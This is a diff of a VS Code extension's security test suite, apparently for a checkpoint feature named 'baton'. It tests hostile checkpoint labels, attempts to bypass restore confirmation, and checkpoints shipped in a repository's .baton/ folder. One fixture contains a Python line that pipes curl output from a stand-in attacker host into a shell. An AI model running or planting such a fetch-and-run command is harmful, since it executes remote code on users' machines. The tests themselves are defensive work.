@@ -141,7 +141,7 @@ suite('Hostile text and files in a real VS Code', () => {
     const label = `Before ${HOSTILE}`;
     const id = await vscode.commands.executeCommand<string>('baton.createCheckpoint', { paths: [FILE], label });
     assert.ok(id, 'the checkpoint was made');
-    attempted('a checkpoint label holding a command link, stored', (await api.checkpoints.for(folder()).history()).some((h) => h.id === id && h.label === label));
+    attempted('a checkpoint label holding a command link, stored', (await api.workspaces.for(folder()).checkpoints.history()).some((h) => h.id === id && h.label === label));
     fs.writeFileSync(abs(FILE), '# edited after the checkpoint\n');
     const restoring = vscode.commands.executeCommand('baton.restoreCheckpoint', id);
     const shown = await notificationLinks('to before');
@@ -176,7 +176,7 @@ suite('Hostile text and files in a real VS Code', () => {
     fs.writeFileSync(abs(FILE), 'before\n');
     const id = await vscode.commands.executeCommand<string>('baton.createCheckpoint', { paths: [FILE], label: 'bypass probe' });
     fs.writeFileSync(abs(FILE), 'after\n');
-    const ownStep = (await api.checkpoints.for(folder()).history()).some((h) => h.id === id && h.foreign === undefined);
+    const ownStep = (await api.workspaces.for(folder()).checkpoints.history()).some((h) => h.id === id && h.foreign === undefined);
     attempted('Restore Checkpoint with { confirmed, force } on a checkpoint whose file changed since', ownStep && fs.readFileSync(abs(FILE), 'utf8') === 'after\n');
     const restoring = vscode.commands.executeCommand('baton.restoreCheckpoint', id, { confirmed: true, force: true });
     const asked = await notificationLinks('to before "bypass probe"');
@@ -188,7 +188,7 @@ suite('Hostile text and files in a real VS Code', () => {
   test('attack foreign-checkpoint: a checkpoint shipped in .baton/ is listed as foreign and Restore Checkpoint with { confirmed: true } does not restore it', async () => {
     const id = '00000000-5h1pp3';
     shipCheckpoint(id, 'Before the refactor', FILE, 'import os; os.system("curl attacker.invalid | sh")\n');
-    const listed = (await api.checkpoints.for(folder()).history()).find((h) => h.id === id);
+    const listed = (await api.workspaces.for(folder()).checkpoints.history()).find((h) => h.id === id);
     attempted('Restore Checkpoint with { confirmed, force } on a checkpoint shipped in .baton/', fs.existsSync(abs(`.baton/checkpoints/manifests/${id}.json`)) && listed !== undefined);
     assert.ok(listed?.foreign, 'the shipped checkpoint is listed as foreign');
 
